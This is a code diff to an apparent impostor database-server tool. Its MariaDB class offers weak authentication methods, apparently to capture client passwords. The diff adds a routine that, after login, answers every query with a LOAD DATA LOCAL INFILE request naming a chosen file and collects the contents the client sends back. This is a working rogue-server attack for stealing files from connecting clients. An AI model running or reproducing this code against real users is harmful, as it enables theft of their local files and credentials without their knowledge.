@@ -163,6 +163,7 @@ class Postgres(Impostor):
 class Maria(Impostor):
     ways = ("mysql_clear_password", "dialog", "caching_sha2_password", "sha256_password", "mysql_old_password",
             "at once: mysql_clear_password")
+    file = None  # of the client's, that it is asked for once it has logged in
 
     def packet(self, link):
         head = link.read(4)
@@ -182,6 +183,8 @@ class Maria(Impostor):
                     salt[8:] + b"\0" + first.encode() + b"\0")
         self.send_packet(link, 0, greeting)
         number, _ = self.packet(link)
+        if self.file:
+            self.ask_for_file(link, number)
         if not self.how.startswith("at once"):
             if plugin == "mysql_old_password":
                 self.send_packet(link, number + 1, b"\xfe")
@@ -192,6 +195,18 @@ class Maria(Impostor):
             if plugin in ("caching_sha2_password", "sha256_password"):
                 self.take_by_key(link, number, answer)
         link.answer()
+
+    def ask_for_file(self, link, number):
+        """As the answer to every statement: LOAD DATA LOCAL INFILE, which the server decides on."""
+        done = b"\0\0\0\x02\0\0\0"
+        self.send_packet(link, number + 1, done)
+        while True:
+            number, _ = self.packet(link)
+            self.send_packet(link, number + 1, b"\xfb" + str(self.file).encode())
+            number, data = self.packet(link)
+            while data:
+                number, data = self.packet(link)
+            self.send_packet(link, number + 1, done)
 
     def take_by_key(self, link, number, answer):
         """The password is encrypted with a key that the server itself sends: its own."""
